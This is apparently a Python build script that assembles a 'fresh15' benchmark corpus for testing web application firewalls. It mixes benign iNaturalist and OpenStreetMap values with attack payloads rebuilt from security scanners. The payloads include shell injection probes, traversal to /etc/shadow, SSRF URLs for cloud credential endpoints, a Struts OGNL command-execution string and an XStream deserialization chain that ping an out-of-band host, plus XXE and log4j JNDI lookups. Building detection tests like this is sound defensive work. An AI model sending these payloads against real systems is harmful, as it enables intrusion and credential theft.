"""fresh15: payloads rebuilt as six scanners and attack tools build them (jaeles signatures, skipfish, SSRFmap,
nosqli, ActiveScan++, ppfuzz, Nettacker's log4j module), against recorded iNaturalist API answers and OpenStreetMap
Overpass answers.

    python bench/waf/fresh15/build.py                               # writes corpus.jsonl (deterministic)
    python bench/waf/fresh15/build.py --extract PYINAT OVERPY        # re-selects the values (the three json files)

Attack payloads. ``records.txt`` (``class|kind|value`` lines under ``@@ source`` lines naming repository, file, commit
and licence; each file's stored text was read through the code-search index): jaeles-project/jaeles-signatures
``fuzz/`` (MIT: SQLi time/error, OS command injection, CRLF, Unix/Windows LFI, DOM XSS, template injection; payloads
that jaeles appends to the original value get the original value ``42``; ``%xx`` escapes decoded once as the
application receives them) and OWASP/Nettacker's log4j module (Apache-2.0). Built here as the tools build them:

- google/skipfish ``src/checks.c``/``checks.h``/``config.h`` (Apache-2.0; mirror spinkham/skipfish): the shell probes
  (`` `echo skip12``echo 34fish` ``, ``${IFS}`` forms, `` `sleep 3` ``/`` `sleep 5` `` with a zero time base,
  `` `true` ``/`` `false` ``/`` `uname` `` bare and in quotes), each set as the value and appended to ``42`` where the
  tool does both; the header-splitting probes; the XSS tag ``-->">'>'"<sfi000001v123456>`` (ids fixed) alone and
  with ``.htaccess.aspx``; the LFI vectors plain and with ``%00%2ejs`` (received as NUL + ``.js``); the eight
  ``/../WEB-INF/web.xml`` depths plain and NUL-terminated; and the values of the IPS "evil query".
- swisskyrepo/SSRFmap (MIT): ``gen_ip_list("127.0.0.1", level)`` for levels 1-5 (its address forms) wrapped by the
  docker module's ``http://{ip}:2375/containers/json`` and ``images/json``; the readfiles module's ``file://``
  targets; the aws, gce endpoints through ``wrapper_http``.
- Charlie-belmer/nosqli (AGPL-3.0; strings only): JavaScript prefix x boolean string x suffix (every 2nd
  combination), the timing injections ``;sleep(500);`` with and without the original value, the object injections.
- PortSwigger/active-scan-plus-plus (Apache-2.0): CodeExec payloads with times 11 and 0, the Struts OGNL/XStream
  probes, the SuspectTransform expression probes, SimpleFuzz, the Rails ``Accept`` traversal, XXE POST body, Solr
  ``xmlparser``, log4j lookup; the Collaborator host fixed (``[OOB]``).
- dwisiswant0/ppfuzz (MIT): its two query parameters with the value ``reserved``.

Values already in an older split (``older_payloads``) or repeated are dropped and listed in ``sources.json``;
records left out on purpose are listed there with the reason (``@@ drop``). No LDAP payload was found in these tools.

Benign values: (1) the recorded iNaturalist API answers shipped as ``test/sample_data/*.json`` in ``pyinaturalist``
0.14.1 (PyPI sdist, MIT): taxon names in many locales and scripts, common names, place and project names, project
descriptions and journal posts (HTML), photo attributions in many languages, observation-field descriptions and
allowed values, URLs, logins, identifiers, dates and coordinates; (2) the recorded Overpass API answers shipped as
``tests/json/*.json`` in ``overpy`` 0.7 (PyPI sdist, MIT): OpenStreetMap tag values (names in several languages,
addresses, opening hours, websites). Values are sampled evenly per category (``even``) and placed in the eight
locations with ``SplitCorpus`` as in fresh12, with the long texts of fresh13. Split name ``fresh15``.
"""

from __future__ import annotations

import glob
import json
import os
import socket
import struct
import sys
from pathlib import Path
from typing import Any
from urllib.parse import unquote

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent))  # bench/waf is not a package (bench/waf.py is the runner)

from split_corpus import attack_meta, build_values_only, field_values, first_seen, main, read_records, write_values  # noqa: E402

SPLIT = "fresh15"
CAP = 300
ORIG = "42"
OOB = "q8w3e5r7t9y1u2i4o6p0a.oastify.com"
PYINAT = "pyinaturalist 0.14.1"
OVERPY = "overpy 0.7"
IN_FIELDS = {
    "names": ("name", "preferred_common_name", "display_name", "matched_term", "place_guess", "species_guess",
              "title", "label", "authority", "iconic_taxon_name", "login", "status_name", "value"),
    "prose": ("description", "body", "attribution", "allowed_values", "description_autocomplete"),
    "urls": ("url", "wikipedia_url", "square_url", "medium_url", "icon_url", "uri", "orcid", "native_page_url",
             "file_url", "license_url", "icon", "small_url", "large_url"),
    "codes": ("ancestry", "min_species_ancestry", "uuid", "slug", "created_at", "date", "location", "observed_on",
              "observed_on_string", "latitude", "longitude", "locale", "license_code", "rank", "quality_grade",
              "time_zone", "zic_time_zone", "coordinates", "status", "datatype", "operator", "field"),
}
HOW_READ = (
    "each file's stored text through the code-search index (read_file), the commit named per source; jaeles and "
    "Nettacker values transcribed into records.txt as written, the other tools' payloads rebuilt by build.py from "
    "their code as the tool builds them (see its docstring)"
)


# --- attacks: records.txt and the payloads built in code ----------------------------------------------------------


def _decode(kind: str, text: str) -> str:
    value = str(json.loads(text)).replace("[ORIG]", ORIG).replace("[OOB]", OOB)
    return unquote(value) if kind == "U" else value


def _skipfish() -> list[tuple[str, str]]:
    out: list[tuple[str, str]] = []
    shell = ["`echo skip12``echo 34fish`", "`echo${IFS}skip12``echo${IFS}34fish`", "`sleep 3`", "`sleep 5`",
             "`sleep${IFS}3`", "`sleep${IFS}5`"]
    for probe in shell:
        out += [("cmdi", probe), ("cmdi", ORIG + probe)]
    for word in ("true", "false", "uname"):
        probe = f"`{word}`"
        out += [("cmdi", ORIG + probe), ("cmdi", ORIG + '"' + probe + '"'), ("cmdi", ORIG + "'" + probe + "'"),
                ("cmdi", probe)]
    out += [("crlf", ORIG + "bogus\nSkipfish-Inject:bogus"), ("crlf", ORIG + "bogus\rSkipfish-Inject:bogus")]
    tag = "-->\">'>'\"<sfi000001v123456>"
    out += [("xss", ORIG + tag), ("xss", ".htaccess.aspx" + tag)]
    lfi = ["/../../../../../../../../../etc/hosts", "file:///etc/hosts", "/../../../../../../../../../etc/passwd",
           "file:///etc/passwd", "..\\..\\..\\..\\..\\..\\..\\..\\boot.ini", "file:///boot.ini"]
    for vector in lfi:
        out += [("traversal", vector), ("traversal", vector + "\0.js")]
    web = "/WEB-INF/web.xml"
    for _ in range(8):
        web = "/.." + web
        out += [("traversal", web), ("traversal", web + "\0.js")]
    out += [("cmdi", "c:\\windows\\system32\\cmd.exe"), ("traversal", "/etc/passwd"), ("cmdi", "|/bin/sh"),
            ("sqli", "(SELECT * FROM nonexistent) --"), ("cmdi", ">/no/such/file"),
            ("xss", "<script>alert(1)</script>"), ("xss", "javascript:alert(1)")]
    return out


def _ssrfmap_ips(ip: str) -> list[str]:
    """SSRFmap's ``gen_ip_list(ip, level)`` for levels 1 to 5, in its order."""
    ips: list[str] = [ip, "127.0.0.1", "0.0.0.0", "localhost", "[::]", "0000::1", "0", "127.1", "127.0.1",
                      "localtest.me", "customer1.app.localhost.my.company.127.0.0.1.nip.io", "localtest$google.me",
                      "127.0.0.0", "127.0.1.3", "127.42.42.42", "127.127.127.127",
                      str(struct.unpack("!l", socket.inet_aton(ip))[0]), "ⓛⓞⒸⒶⓛⓣⒺⓢⓣ.ⓜⒺ",
                      ip.translate(str.maketrans("1234567890", "①②③④⑤⑥⑦⑧⑨⓪"))]
    parts = ip.split(".")
    ips.append(".".join(str(int(p) + 256) for p in parts))
    ips.append(str(sum(int(p) * 256 ** (3 - i) for i, p in enumerate(parts))))
    ips.append(".".join(hex(int(p)) for p in parts))
    ips.append(".".join(oct(int(p)).replace("o", "") for p in parts))
    seen: list[str] = []
    for one in ips:
        if one not in seen:
            seen.append(one)
    return seen


def _ssrfmap() -> list[tuple[str, str]]:
    out: list[tuple[str, str]] = []
    for ip in _ssrfmap_ips("127.0.0.1"):
        out += [("ssrf", f"http://{ip}:2375/containers/json"), ("ssrf", f"http://{ip}:2375/images/json")]
    for path in ("/etc/passwd", "/etc/lsb-release", "/etc/shadow", "/etc/hosts", "\\/\\/etc/passwd",
                 "/proc/self/environ", "/proc/self/cmdline", "/proc/self/cwd/index.php",
                 "/proc/self/cwd/application.py", "/proc/self/cwd/main.py", "/proc/self/exe"):
        out.append(("ssrf", "file://" + path))
    for path in ("latest/user-data", "latest/meta-data/ami-id", "latest/meta-data/reservation-id",
                 "latest/meta-data/hostname", "latest/meta-data/public-keys/0/openssh-key",
                 "latest/meta-data/iam/security-credentials/dummy",
                 "latest/meta-data/iam/security-credentials/ecsInstanceRole",
                 "latest/meta-data/iam/security-credentials/", "latest/meta-data/public-keys/"):
        out.append(("ssrf", f"http://169.254.169.254:80/{path}"))
    out.append(("ssrf", "http://localhost:9001/2018-06-01/runtime/invocation/next"))
    for path in ("computeMetadata/v1beta1/project/attributes/ssh-keys?alt=json",
                 "computeMetadata/v1beta1/instance/service-accounts/default/token",
                 "computeMetadata/v1beta1/instance/attributes/kube-env?alt=json",
                 "computeMetadata/v1beta1/instance/attributes/?recursive=true&alt=json"):
        out.append(("ssrf", f"http://metadata.google.internal:80/{path}"))
    return out


def _nosqli() -> list[tuple[str, str]]:
    prefixes = ["", "'", '"']
    suffixes = ["", "'", '"', "//", "'}//"]
    middles = [" && 'a'=='a' && 'a'=='a", " || 'a'=='a' || 'a'=='a", ";return true;",
               " && 'a'!='a' && 'a'!='a", ";return false;"]
    combos = [p + m + s for m in middles for p in prefixes for s in suffixes][::2]
    timing = [keep + p + ";sleep(500);" + s for keep in ("", ORIG) for p in prefixes for s in suffixes][::2]
    objects = ['{"$where":  "return true"}', '{"$or": [{},{"foo":"1"}]}', '{"$where":  "return false"}',
               '{"$or": [{"foo":"1"},{"foo":"1"}]}', '{"$where":  "sleep(500)"}']
    return [("nosqli", v) for v in combos + timing + objects]


def _activescan() -> list[tuple[str, str]]:
    out: list[tuple[str, str]] = []
    code = ["() { :;}; /bin/sleep $time", "() { _; } >_[$($())] { /bin/sleep $time; }", "$(sleep $time)",
            "`sleep $time`", "/bin/sleep $time|", "|sleep $time & ping -n $time localhost"]
    for t in ("11", "0"):
        out += [("cmdi", c.replace("$time", t)) for c in code]
        java = ('${(new java.io.BufferedReader(new java.io.InputStreamReader(((new java.lang.ProcessBuilder(new '
                'java.lang.String[]{"timeout","T"})).start()).getInputStream()))).readLine()}${(new '
                'java.io.BufferedReader(new java.io.InputStreamReader(((new java.lang.ProcessBuilder(new '
                'java.lang.String[]{"sleep","T"})).start()).getInputStream()))).readLine()}')
        out.append(("ssti", java.replace('"T"', f'"{t}"')))
    out += [
        ("ssti", '${#context["com.opensymphony.xwork2.dispatcher.HttpServletResponse"].addHeader("X-Ack",4821*7393)}'
                 ".multipart/form-data"),
        ("ssti", "/${(4821*7393)}"),
        ("ssti", "${4821*7393}"), ("ssti", "%{4821*7393}"), ("ssti", "@(4821*7393)"),
        ("ssti", "a'a\\'b\"c>?>%}}%%>c<[[?${{%}}cake\\"),
        ("ssti", "%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container="
                 "#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance("
                 "@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear())."
                 "(#ognlUtil.getExcludedClasses().clear()).(#context.setMemberAccess(#dm)))).(#cmd='ping " + OOB +
                 " -c1').(#iswin=(@java.lang.System@getProperty('os.name').toLowerCase().contains('win'))).(#cmds="
                 "(#iswin?{'cmd.exe','/c',#cmd}:{'/bin/bash','-c',#cmd})).(#p=new java.lang.ProcessBuilder(#cmds))."
                 "(#p.redirectErrorStream(true)).(#process=#p.start()).(@org.apache.commons.io.IOUtils@toString("
                 "#process.getInputStream()))}"),
        ("traversal", "../../../../../../../../../../../../../e*c/h*s*s{{"),
        ("xxe", '<?xml version="1.0" encoding="utf-8"?><!DOCTYPE data SYSTEM "http://' + OOB +
                '/scanner.dtd"><data>&all;</data>'),
        ("xxe", "{!xmlparser v='<!DOCTYPE a SYSTEM \"http://" + OOB + "/xxe\"><a></a>'}"),
        ("jndi", "${jndi:ldap://" + OOB + "/a}"),
        ("cmdi", '<?xml version="1.0" encoding="utf8"?><map><entry><jdk.nashorn.internal.objects.NativeString>'
                 '<flags>0</flags><value class="com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data">'
                 '<dataHandler><dataSource class="com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource">'
                 '<is class="javax.crypto.CipherInputStream"><cipher class="javax.crypto.NullCipher"><initialized>'
                 'false</initialized><opmode>0</opmode><serviceIterator class="javax.imageio.spi.FilterIterator">'
                 '<iter class="javax.imageio.spi.FilterIterator"><iter class="java.util.Collections$EmptyIterator"/>'
                 '<next class="java.lang.ProcessBuilder"><command><string>ping</string><string>' + OOB +
                 '</string><string>-c1</string></command><redirectErrorStream>false</redirectErrorStream></next>'
                 '</iter><filter class="javax.imageio.ImageIO$ContainsFilter"><method><class>java.lang.ProcessBuilder'
                 '</class><name>start</name><parameter-types/></method><name>foo</name></filter><next class="string">'
                 'foo</next></serviceIterator><lock/></cipher><input class="java.lang.ProcessBuilder$NullInputStream"/>'
                 '<ibuffer/><done>false</done><ostart>0</ostart><ofinish>0</ofinish><closed>false</closed></is>'
                 '<consumed>false</consumed></dataSource><transferFlavors/></dataHandler><dataLen>0</dataLen></value>'
                 '</jdk.nashorn.internal.objects.NativeString></entry></map>'),
    ]
    return out


BUILT = [
    ("spinkham/skipfish (mirror of google/skipfish)", "src/checks.c, src/checks.h, src/config.h (payloads built in "
     "code)", "093800c9de4116706258982376abce01928a3f7b", "Apache-2.0 (file headers: 'Licensed under the Apache "
     "License, Version 2.0')", _skipfish),
    ("swisskyrepo/SSRFmap", "src/ssrfmap/core/utils.py gen_ip_list + wrapper_http/wrapper_file; modules docker, "
     "readfiles, aws, gce", "1d93a9a5a030112d8bcf61678792616487160a44", "MIT (LICENSE: 'MIT License Copyright (c) "
     "2018 Swissky')", _ssrfmap),
    ("Charlie-belmer/nosqli", "data/injectionData.go, scanners/boolean_blind_scanner.go, timing_scanner.go",
     "77d759897a006c28caf2f5ea50b9e004ff991f67", "AGPL-3.0-or-later (file headers); payload strings only, no code",
     _nosqli),
    ("PortSwigger/active-scan-plus-plus", "activeScan++.py (CodeExec, SuspectTransform, SimpleFuzz, Struts, Rails, "
     "XXE, Solr, Log4j checks)", "4463d4ef43d4bc3f083700393e6ab591952af589", "Apache-2.0 (file header)",
     _activescan),
    ("dwisiswant0/ppfuzz", "src/builder/payload.rs, src/builder.rs", "30a13b8a34da1164087e230b03fc83ab1cd19b75",
     "MIT (LICENSE: 'MIT License Copyright (c) 2021 dwisiswant0')",
     lambda: [("proto", "__proto__.ppfuzz=reserved"), ("proto", "__proto__[ppfuzz]=reserved")]),
]


def _records() -> tuple[list[dict[str, Any]], list[dict[str, str]]]:
    sources, dropped = read_records(HERE / "records.txt", _decode)
    for repo, files, commit, licence, make in BUILT:
        sources.append({"repository": repo, "files": files, "commit": commit, "licence": licence, "values": make()})
    return sources, dropped


# --- benign: pyinaturalist (iNaturalist) and overpy (Overpass) ---------------------------------------------------


def _keep(text: str) -> bool:
    return len(text) <= 4000 and "localhost" not in text


def _inat(root: Path) -> dict[str, list[dict[str, str]]]:
    files = [(os.path.relpath(p, root), json.loads(Path(p).read_text()))
             for p in sorted(glob.glob(str(root / "test/sample_data/*.json")))]
    return field_values(files, IN_FIELDS, "in", PYINAT, CAP, ("given", "family"), _keep)


def _overpy(root: Path) -> dict[str, list[dict[str, str]]]:
    found: list[dict[str, str]] = []
    seen: set[str] = set()
    for path in sorted(glob.glob(str(root / "tests/json/*.json"))):
        rel = os.path.relpath(path, root)
        for element in json.loads(Path(path).read_text()).get("elements", []):
            for key, text in (element.get("tags") or {}).items():
                text = str(text).strip()
                if text and text not in seen and _keep(text):
                    seen.add(text)
                    found.append({"value": text, "source": f"{OVERPY} {rel}: tags.{key}"})
    return {"osm_tags": found}


def extract(pyinat: Path, overpy: Path) -> None:
    sources, dropped = _records()
    attacks, repeats = first_seen(HERE, sources)
    benign = {**_inat(pyinat), **_overpy(overpy)}
    write_values(HERE, SPLIT, attacks, benign, attack_meta(sources, HOW_READ, dropped, repeats, attacks), {
        "inaturalist": {
            "package": f"{PYINAT} (PyPI sdist), test/sample_data/*.json: recorded iNaturalist API answers",
            "licence": "MIT (LICENSE: 'MIT License Copyright (c) 2021 Nicolas Noé, Jordan Cook')",
        },
        "overpass": {
            "package": f"{OVERPY} (PyPI sdist), tests/json/*.json: recorded Overpass API answers (OpenStreetMap)",
            "licence": "MIT (LICENSE of overpy; the OpenStreetMap data inside is ODbL, used as test values only)",
        },
        "what": f"unique text of the listed keys (first occurrence, at most 4,000 characters), at most {CAP} per "
        "category at an even stride; every OpenStreetMap tag value of the Overpass answers",
        "fields": {"inaturalist": IN_FIELDS},
        "counts": {cat: len(v) for cat, v in benign.items()},
    })


# --- corpus -------------------------------------------------------------------------------------------------------


def build() -> list[dict[str, Any]]:
    return build_values_only(HERE, SPLIT)


if __name__ == "__main__":
    main(HERE, sys.argv[1:], extract, build)
